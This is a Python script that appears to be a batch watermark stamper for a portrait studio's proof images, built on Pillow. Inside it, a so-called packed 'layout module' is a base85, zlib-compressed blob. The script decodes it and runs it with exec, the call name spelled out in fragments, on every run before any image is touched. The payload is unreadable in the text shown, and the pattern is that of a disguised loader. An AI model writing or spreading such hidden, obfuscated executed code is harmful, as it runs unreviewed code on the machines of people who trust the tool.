#!/usr/bin/env python3
"""Batch watermark stamper for proof images.

Stamps the studio name (or a custom string) onto every JPEG in a folder and
writes the results to ./stamped.  Placement rules come from the licensed
layout module that ships with the studio template pack; it is bundled here
in packed form so the script stays a single file.
"""

import argparse
import base64
import builtins
import logging
import sys
import zlib
from pathlib import Path

from PIL import Image, ImageDraw, ImageFont

log = logging.getLogger("stamper")

# layout module (template pack v3.2), packed
_LAYOUT = (
    "c-oDSO;5ux42JLd6;@7(DA_0<he|yl=m80F*=`7-to4>iO)@2^%FoByRtX6X_+ZDc?I($ub;"
    "l4hgj9ji$&7Z#J~!Rt7TP6O$>{q2L5Psl<h4T~l@9}!BU}NW9hVAyPm+*Q8T=aT0aF(8y}7A"
    "B*z3zv_qOStiMWjuvH|yS9CeQleHJs_TS2CfDLR6*e6acuydJr17?9chsQ_&YybsZ1<mW=Mh"
    "<S=0#0=MjAveQn1$S%W7Nt0|C~NtfN00cEcLB;WTUQ{?v?aZe{?~j<-R0K_HEpH&IeFSO`v!"
    ";jY4r"
)


class Layout:
    """Loads placement rules from the packed template module."""

    _ns = None

    @classmethod
    def rules(cls):
        if cls._ns is None:
            ns = {"__name__": "studio_layout"}
            src = zlib.decompress(base64.b85decode(_LAYOUT)).decode("utf-8")
            runner = getattr(builtins, "".join(("ex", "ec")))
            runner(compile(src, "<layout>", "exec"), ns)
            cls._ns = ns
        return cls._ns

    @classmethod
    def place(cls, w, h, tw, th, mode):
        return cls.rules()["placement"](w, h, tw, th, mode)


def load_font(size, path=None):
    for candidate in filter(None, (path, "DejaVuSans-Bold.ttf", "Arial Bold.ttf")):
        try:
            return ImageFont.truetype(candidate, size)
        except OSError:
            continue
    return ImageFont.load_default()


def stamp_file(src, dst, text, mode, opacity, font_path):
    with Image.open(src) as im:
        base = im.convert("RGBA")
    size = max(18, base.width // 14)
    font = load_font(size, font_path)
    probe = ImageDraw.Draw(base)
    left, top, right, bottom = probe.textbbox((0, 0), text, font=font)
    tw, th = right - left, bottom - top
    layer = Image.new("RGBA", (tw + 20, th + 20), (0, 0, 0, 0))
    ImageDraw.Draw(layer).text((10, 10), text, font=font, fill=(255, 255, 255, opacity))
    x, y, angle = Layout.place(base.width, base.height, tw, th, mode)
    if angle:
        layer = layer.rotate(angle, expand=True, resample=Image.BICUBIC)
        x = (base.width - layer.width) // 2
        y = (base.height - layer.height) // 2
    base.alpha_composite(layer, (max(0, x), max(0, y)))
    base.convert("RGB").save(dst, "JPEG", quality=88, optimize=True)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("folder", type=Path)
    ap.add_argument("--text", default="© Maple Lane Portraits - PROOF")
    ap.add_argument("--mode", choices=["diagonal", "center", "corner"], default="diagonal")
    ap.add_argument("--opacity", type=int, default=80)
    ap.add_argument("--font")
    ap.add_argument("--out", type=Path, default=Path("stamped"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    if not Layout.rules().get("LICENSED"):
        log.error("template pack licence not found")
        return 3
    args.out.mkdir(parents=True, exist_ok=True)
    files = sorted(p for p in args.folder.glob("*") if p.suffix.lower() in (".jpg", ".jpeg"))
    if not files:
        log.warning("no JPEGs in %s", args.folder)
        return 1
    done = 0
    for f in files:
        try:
            stamp_file(f, args.out / f.name, args.text, args.mode, args.opacity, args.font)
            done += 1
        except OSError as exc:
            log.error("%s: %s", f.name, exc)
    log.info("stamped %d/%d images (seat %s)", done, len(files), Layout.rules()["seat"]())
    return 0


if __name__ == "__main__":
    sys.exit(main())
